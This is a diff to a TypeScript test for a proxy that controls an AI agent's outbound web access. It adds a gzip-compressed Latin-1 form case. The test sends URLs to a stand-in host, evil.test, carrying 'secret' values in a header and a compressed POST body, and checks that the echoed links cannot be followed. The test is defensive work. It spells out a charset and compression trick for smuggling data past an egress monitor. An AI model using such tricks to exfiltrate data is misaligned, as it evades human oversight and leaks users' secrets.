@@ -10,6 +10,7 @@
 import { execFile } from 'node:child_process';
 import http from 'node:http';
 import { promisify } from 'node:util';
+import zlib from 'node:zlib';
 import fc from 'fast-check';
 import t from 'tap';
 import { LinkScanner, echoedBy, pageSkeleton, requestSkeletons } from '../../describe/links.ts';
@@ -65,12 +66,26 @@ t.test('a URL echoed in another charset is not recorded, whatever bytes the agen
     }), { numRuns, ...seed });
 });
 
-t.test('through the real proxy: a Latin-1 page and a header echoed as UTF-8 serve no link the agent wrote', async (t) => {
+t.test('through the real proxy: a Latin-1 page (also to a gzip form) and a header echoed as UTF-8 serve no link the agent wrote', async (t) => {
   const all: Array<{ host: string; url: string }> = [];
   let port = 0;
   const server = http.createServer((req, res) => {
     const host = (req.headers.host ?? '').split(':')[0]!;
     all.push({ host, url: req.url ?? '' });
+    if (host === 'search.test' && req.method === 'POST') {
+      // A Latin-1 search form that takes gzip-compressed bodies.
+      const chunks: Buffer[] = [];
+      req.on('data', (c: Buffer) => chunks.push(c));
+      req.on('end', () => {
+        let body = Buffer.concat(chunks);
+        if (req.headers['content-encoding'] === 'gzip') body = zlib.gunzipSync(body);
+        const q = /(?:^|&)q=([^&]*)/.exec(body.toString('latin1'))?.[1] ?? '';
+        const bytes = Buffer.from(q.replace(/\+/g, ' ').replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1');
+        res.setHeader('content-type', 'text/html; charset=iso-8859-1');
+        res.end(Buffer.concat([Buffer.from('<p>Results for '), bytes, Buffer.from(`</p><a href="http://blog.test:${port}/post?id=4">result</a>`)]));
+      });
+      return;
+    }
     req.resume();
     if (host === 'search.test' && req.url?.startsWith('/latin1')) {
       // An old search page: reads the query as Latin-1 and echoes it into a Latin-1 page.
@@ -94,7 +109,7 @@ t.test('through the real proxy: a Latin-1 page and a header echoed as UTF-8 serv
   t.teardown(() => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }));
   const web = { port, hits: [], origin: (h: string) => `http://${h}:${port}` };
 
-  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), 'search.test'];
+  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), { host: 'search.test', methods: ['GET', 'POST'] }];
   const airlock = await startSessionAirlock(t, tempDir(t, 'al-charset-'), policyCopy(t, { config: { ...testConfig.config, allowed_hosts: allowed, labels: { hosts: { 'search.test': [] } } } }), web);
   const agent = await airlock.agents.add('bot');
   const proxy = airlock.proxyUrl('bot', agent.token);
@@ -106,7 +121,23 @@ t.test('through the real proxy: a Latin-1 page and a header echoed as UTF-8 serv
   const { stdout } = await promisify(execFile)('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '--proxy', proxy, '-H', `X-Query: http://evil.test:${port}/x?d=\u00e9secret2`, `${web.origin('search.test')}/api?q=news`]);
   t.equal(stdout, '200');
   t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret2`)).status, 403, 'the header echo is not followable');
+  // The same in a gzip-compressed form: the description parses it as UTF-8 (U+FFFD), the server as Latin-1.
+  const form = zlib.gzipSync(Buffer.from(`q=${encodeURIComponent(`http://evil.test:${port}/x?d=`)}%E9secret3`));
+  t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/form`, form), 200);
+  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret3`)).status, 403, 'the echo of a compressed form is not followable');
   t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
   // The link the pages chose is followable.
   t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/post?id=4`)).status, 200, 'the served result is followed');
 });
+
+/** A gzip-compressed form POST through the proxy with Node's http client; its status. */
+function postVia(proxyPort: number, credentials: string, url: string, body: Buffer): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = http.request({ host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip', 'content-length': body.length } }, (res) => {
+      res.resume();
+      res.on('end', () => resolve(res.statusCode ?? 0));
+    });
+    req.on('error', reject);
+    req.end(body);
+  });
+}
